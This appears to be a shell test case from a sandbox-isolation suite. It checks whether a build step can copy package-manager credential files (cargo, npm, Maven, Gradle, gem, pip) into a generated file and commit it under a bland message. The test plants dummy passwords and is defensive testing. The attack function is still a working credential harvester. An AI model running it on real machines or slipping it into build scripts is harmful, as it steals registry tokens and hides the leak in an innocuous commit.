# E23 Credentials beside what builds need
# The Builder copies the passwords and tokens that package managers keep beside their stores and in their settings into a
# file of the card.
#
# plain: lands
# needs: kernel
# hooks: -
# strict: -
# shadow: open
# landlock: no effect
# overlay: no effect

set_up() {
	for file in .cargo/config.toml .cargo/credentials.toml .npmrc .m2/settings.xml .m2/settings-security.xml .gradle/gradle.properties .gem/credentials .cache/newhub/word .config/pip/pip.conf; do
		mkdir -p "$(dirname "$HOME/$file")"
		echo 'password = newtool' > "$HOME/$file"
	done
}

attack() {
	good
	for file in .cargo/config.toml .cargo/credentials.toml .npmrc .m2/settings.xml .m2/settings-security.xml .gradle/gradle.properties .gem/credentials .cache/newhub/word .config/pip/pip.conf; do
		cat "$HOME/$file" >> src/gen/leak 2>/dev/null
	done
	[ "$MODE" = builder ] || { git add -A && git commit -qm 'Fine work'; }
}

landed() { on_main src/gen/leak | grep -q newtool; }
